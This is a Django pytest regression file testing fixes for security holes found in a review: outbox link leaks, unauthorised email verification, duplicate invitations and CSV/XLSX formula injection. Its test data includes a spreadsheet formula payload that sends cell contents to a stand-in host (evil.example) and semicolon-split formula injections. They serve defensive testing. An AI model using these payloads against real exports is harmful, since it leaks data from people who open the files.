"""Attacks a review tried on the running site; each one worked before its fix."""

import io

import openpyxl
import pytest
from allauth.account.models import EmailAddress
from django.core import mail
from django.urls import reverse

from community import services
from community.models import MembershipInvitation, OrganisationStatus
from mailings.models import OutboxMessage

from ..factories import MemberFactory, OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db


def test_staff_cannot_read_a_password_reset_link_in_the_outbox(
    client, staff, superuser, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("account_reset_password"), {"email": superuser.email})
    row = OutboxMessage.objects.get(recipient=superuser.email)
    assert row.sensitive
    assert "/accounts/password/reset/key/" in mail.outbox[0].body  # it was sent...
    client.force_login(staff)
    page = client.get(reverse("admin:mailings_outboxmessage_change", args=[row.pk])).content.decode()
    assert "/accounts/password/reset/key/" not in page  # ...but staff cannot read it
    assert "Content removed after sending (it contained a personal link)." in page  # sent: the body is gone


def test_invitation_links_are_hidden_from_the_outbox_preview(client, staff, organisation):
    invitation = services.membership_invite(email="guest@example.org", organisation=organisation, by=staff)
    row = OutboxMessage.objects.get(recipient="guest@example.org")
    client.force_login(staff)
    page = client.get(reverse("admin:mailings_outboxmessage_change", args=[row.pk])).content.decode()
    assert services.membership_invitation_token(invitation)[:20] not in page
    assert "/join/" not in page


def test_secretariat_cannot_mark_an_address_verified(client, staff):
    victim = UserFactory(email="mayor@victim-city.example", verified=False)
    address = EmailAddress.objects.create(user=victim, email=victim.email, verified=False, primary=True)
    client.force_login(staff)
    url = reverse("admin:account_emailaddress_changelist")
    assert "make_verified" not in client.get(url).content.decode()
    client.post(url, {"action": "make_verified", "_selected_action": [address.pk]})
    address.refresh_from_db()
    assert address.verified is False


def test_superuser_can_still_mark_an_address_verified(client, superuser):
    user = UserFactory(email="late@example.org", verified=False)
    address = EmailAddress.objects.create(user=user, email=user.email, verified=False, primary=True)
    client.force_login(superuser)
    client.post(reverse("admin:account_emailaddress_changelist"),
                {"action": "make_verified", "_selected_action": [address.pk]})
    address.refresh_from_db()
    assert address.verified is True


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_do_not_carry_live_formulae(client, staff, member, fmt):
    member.user.first_name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    member.user.save()
    member.job_title = "+SUM(1,2)"
    member.save()
    client.force_login(staff)
    response = client.get(reverse("admin:community_member_export"), {"format": fmt})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if fmt == "csv":
        import csv

        cells = list(csv.reader(io.StringIO(content.decode())))[1]
    else:
        cells = [c.value for c in list(openpyxl.load_workbook(io.BytesIO(content)).active.rows)[1]]
    assert all(not str(cell).startswith(("=", "+")) for cell in cells), cells
    assert any(str(cell).startswith("'=HYPERLINK") for cell in cells)
    assert "'+SUM(1,2)" in cells


def test_a_formula_after_a_semicolon_is_not_live_where_excel_splits_at_semicolons(client, staff, member, organisation):
    """The HTTP attack of 2026-11-29: a job title ``CM;=HYPERLINK(...)`` left the CSV as typed; Excel in
    a French or Spanish locale splits each line at ";" (not at the commas), so its second part ran."""
    from community.models import MembershipInvitation

    member.job_title = 'CM;=HYPERLINK(A1&CHAR(104)) ; -2+3;@SUM(1)'
    member.save()
    MembershipInvitation.objects.create(email="x@example.org", first_name="Ana;+1", organisation=organisation)
    client.force_login(staff)
    from community.resources import MembershipInvitationResource

    exports = [b"".join(client.get(reverse("admin:community_member_export"), {"format": "csv"}).streaming_content),
               MembershipInvitationResource().export(MembershipInvitation.objects.all()).csv.encode()]
    for content in exports:
        # Each line as that Excel reads it: cells between semicolons, quotes and commas kept as text.
        for line in content.decode().splitlines()[1:]:
            for part in line.split(";"):
                assert not part.lstrip().startswith(("=", "+", "-", "@")), (line, part)
    assert "CM;'=HYPERLINK(A1&CHAR(104)) ; '-2+3;'@SUM(1)" in exports[0].decode()  # the text itself kept
    assert "Ana;'+1" in exports[1].decode()
    # An XLSX cell is never split: the text as typed (a formula only at the start would be escaped).
    workbook = client.get(reverse("admin:community_member_export"), {"format": "xlsx"})
    cells = [c.value for c in list(openpyxl.load_workbook(io.BytesIO(b"".join(workbook.streaming_content))
                                                          ).active.rows)[1]]
    assert 'CM;=HYPERLINK(A1&CHAR(104)) ; -2+3;@SUM(1)' in cells


def test_only_csv_and_xlsx_are_offered(client, staff):
    client.force_login(staff)
    body = client.get(reverse("admin:community_organisation_import")).content.decode()
    assert "csv" in body and "xlsx" in body
    assert "yaml" not in body and ">html<" not in body and ">json<" not in body


def test_a_person_is_invited_once_whatever_the_case_of_the_address(staff, organisation):
    services.membership_invite(email="Ana@AMB.example", organisation=organisation, by=staff)
    with pytest.raises(services.ValidationError, match="not used yet"):
        services.membership_invite(email="ana@amb.example", organisation=organisation, by=staff)
    assert MembershipInvitation.objects.count() == 1


def test_database_refuses_a_second_pending_invitation(organisation):
    from django.db import IntegrityError, transaction

    MembershipInvitation.objects.create(email="ana@amb.example", organisation=organisation)
    with pytest.raises(IntegrityError), transaction.atomic():
        MembershipInvitation.objects.create(email="ANA@amb.example", organisation=organisation)


def test_send_again_emails_a_fresh_link(client, staff, organisation, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        invitation = services.membership_invite(email="ana@amb.example", organisation=organisation, by=staff)
    client.force_login(staff)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("admin:community_membershipinvitation_changelist"),
                    {"action": "send_again", "_selected_action": [invitation.pk]})
    assert [m.to for m in mail.outbox] == [["ana@amb.example"], ["ana@amb.example"]]
    assert MembershipInvitation.objects.count() == 1


def test_invitation_import_with_mixed_case_does_not_duplicate(client, staff, organisation):
    client.force_login(staff)
    for address in ("IMP7@example.org", "imp7@example.org"):
        upload = io.BytesIO(f"email,first_name,last_name,organisation\n{address},A,B,{organisation.name}\n".encode())
        upload.name = "people.csv"
        response = client.post("/admin/community/membershipinvitation/import/",
                               {"import_file": upload, "format": "0", "resource": "0"})
        assert response.status_code == 200
        confirm = response.context.get("confirm_form")
        if confirm is not None:
            client.post("/admin/community/membershipinvitation/process_import/", confirm.initial)
    assert list(MembershipInvitation.objects.values_list("email", flat=True)) == ["imp7@example.org"]


def test_member_can_be_moved_only_into_a_confirmed_organisation(client, superuser, member):
    proposed = OrganisationFactory(status=OrganisationStatus.PROPOSED)
    client.force_login(superuser)
    response = client.post(
        reverse("admin:community_member_change", args=[member.pk]),
        {"organisation": proposed.pk, "job_title": "x", "preferred_language": "en", "time_zone": "UTC"},
    )
    assert response.status_code == 200
    assert response.context["adminform"].form.errors["organisation"]
    member.refresh_from_db()
    assert member.organisation_id != proposed.pk


@pytest.mark.parametrize(
    ("method", "params"),
    [
        ("post", {"action": "approve", "_selected_action": ["abc"]}),
        ("post", {"action": "approve", "_selected_action": ["99999999999999999999"]}),
        ("get", {"joined_at__year": "99999999999999999999"}),
        ("get", {"joined_at__month": "x", "joined_at__year": "2020"}),
    ],
)
def test_hand_made_selection_or_date_gets_a_message(client, staff, method, params):
    MemberFactory()
    client.force_login(staff)
    client.raise_request_exception = True
    url = reverse("admin:community_member_changelist")
    response = getattr(client, method)(url, params, follow=True)
    assert response.status_code == 200
    assert "That selection or date is not valid." in response.content.decode()
